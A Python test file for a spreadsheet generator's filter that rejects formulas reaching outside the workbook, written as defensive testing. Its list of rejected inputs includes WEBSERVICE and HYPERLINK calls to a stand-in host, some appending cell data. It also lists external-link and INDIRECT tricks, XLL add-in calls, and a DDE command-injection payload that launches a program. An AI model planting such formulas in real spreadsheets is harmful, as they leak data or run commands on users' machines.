"""Formulas that reach out of the workbook are found however they are written, and no others."""

from __future__ import annotations

import io
import json
import re

import openpyxl
import pytest
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from generator.template.workbook.outside_formulas import reason_against
from tests.hostile.inputs import json_ledger, parts_of, run, template, workspace

OUTWARD = [
    '=WEBSERVICE("http://e")',
    '=WEBSERVICE ("http://e")',
    '=webservice\n\t("http://e")',
    '= WEBSERVICE("http://e")',
    '=@WEBSERVICE("http://e")',
    '=_xlfn.WEBSERVICE("http://e")',
    '=_xlfn._xlws.WEBSERVICE ("http://e")',
    '=Sheet1!WEBSERVICE("http://e")',
    '=IF(1,WEBSERVICE("http://e"),2)',
    '=_xlfn.LET(_xlpm.a,WEBSERVICE("http://e"),_xlpm.a)',
    '=LET(f,WEBSERVICE,f("http://e"))',
    '=_xlfn.LAMBDA(x,x("http://e"))(WEBSERVICE)',
    "=MAP(A1:A2,_xlfn.WEBSERVICE)",
    "=_xll.送出(A1)",
    "=_xlfn._xll.SEND(A1)",
    "=LET(f,_xll.SEND,f(A1))",
    '=EVALUATE("WEBS"&"ERVICE(1)")',
    '=FILES("c:\\*.*")',
    "=GET.WORKSPACE(1)",
    '=RTD ("a","","b")',
    "=PY(1)",
    "=[1]Sheet1!A1",
    "=SUM([1]Sheet1!A1:A3)",
    "=[1]!送出(1)",
    "='[别的.xlsx]S'!送出(1)",
    "='c:\\x\\别的.xlsx'!名称",
    "=别的.xlsx!名称",
    "='http://e/[a.xlsx]S'!A1",
    "='file:///c:/a.ods'#$S.A1",
    '=INDIRECT("[别的.xlsx]S!A1")',
    '=INDIRECT ("[别的.xlsx]S!A1")',
    '=INDIRECT("["&A1&"]S!A1")',
    '=INDIRECT(CHAR(91)&"别的.xlsx"&CHAR(93)&"S!A1")',
    "=INDIRECT(\"'http://e/a.ods'#$S.A1\")",
    '=INDIRECT("\'\\\\e\\a"&A1)',
    '=INDIRECT(ADDRESS(1,1,1,1,"[别的.xlsx]S"))',
    '=LET(f,INDIRECT,f("[别的.xlsx]S!A1"))',
    '=HYPERLINK("http://e"&A1,"点")',
    '=HYPERLINK ("http://e","点")',
    '=HYPERLINK("#S!A1"&A1,"点")',
    '=HYPERLINK("http://e"&HYPERLINK("#S!A1","点"),"点")',
    '=HYPERLINK("#[别的.xlsx]S!A1","点")',
    "=HYPERLINK(A1)",
    "=MAP(A1:A2,HYPERLINK)",
    "=cmd|'/C calc'!A0",
    "='a\"'!A1+cmd|'/C calc'!A0&\"b\"",
    "=SUM((1",
    "=SUM(1))",
]
INWARD = [
    "=SUM(A1:A3)",
    "=SUM (A1:A3)",
    "='一 月'!A1+'二''月'!B2",
    "=SUM('一月:三月'!A1)",
    "=SUM(一月:三月!A1)",
    '=HYPERLINK("#S!A1","回到开头")',
    '=HYPERLINK ( "#S!A1" )',
    '=IF(A1="","",HYPERLINK("#S!A1","去"))',
    '="a|b [1]! WEBSERVICE(1)"',
    '=INDIRECT("D"&ROW())',
    '=INDIRECT("单位!$A$2:$A$"&COUNTA(A:A))',
    "=INDIRECT($A2)",
    '=INDIRECT("表1[金额]")',
    '=INDIRECT("R1C1",FALSE)',
    '=INDIRECT("RC",FALSE)',
    "=SUM(表1[金额])",
    "=表1[[#All],[金额]]",
    "=CHAR(10)&A1",
    '=CELL("row",A1)',
    "=#REF!",
    "=SUM(#REF!,1)",
    "={1,2;3,4}",
    "=LET(a,1,a+1)",
    "=A1:A3 B1:B3",
    "=(A1)",
    '=VLOOKUP(A1,单位!A:B,2,FALSE)&"：[第1条]"',
]


@pytest.mark.parametrize("formula", OUTWARD)
def test_a_formula_that_reaches_out_is_not_carried(formula):
    assert reason_against(formula)
    assert reason_against(formula.removeprefix("="))


@pytest.mark.parametrize("formula", INWARD)
def test_a_formula_that_stays_inside_is_carried(formula):
    assert reason_against(formula) == ""


def test_names_validations_and_conditional_formats_are_looked_at_like_cells(tmp_path):
    book = openpyxl.load_workbook(io.BytesIO(template()))
    sheet = book.active
    sheet["D2"] = '=WEBSERVICE ("http://e")'
    fill = openpyxl.styles.PatternFill("solid", bgColor="FF0000")
    sheet.conditional_formatting.add("A4:A4", FormulaRule(formula=['LET(f,WEBSERVICE,f("http://e"))<>""'], fill=fill))
    validation = DataValidation(type="list", formula1='INDIRECT("[别的.xlsx]S!A1")')
    validation.add("C4")
    sheet.add_data_validation(validation)
    book.defined_names["外"] = DefinedName("外", attr_text="_xll.SEND(1)")
    stream = io.BytesIO()
    book.save(stream)
    root = workspace(tmp_path / "w", json_ledger(), {"总表": stream.getvalue()})
    result = run("build", "--json", "--workspace", root)
    assert result.exit_code == 0, result.output
    problems = json.loads(result.output)["problems"]
    cells = {problem["cell"] for problem in problems if problem["code"] == "formula-not-carried"}
    assert cells == {"D2", "A4", "C4", ""}
    harm = re.compile(rb"WEBSERVICE|INDIRECT|_xll")
    parts = parts_of((root / "output" / "总表.xlsx").read_bytes())
    assert {name for name, data in parts.items() if harm.search(data)} == set()
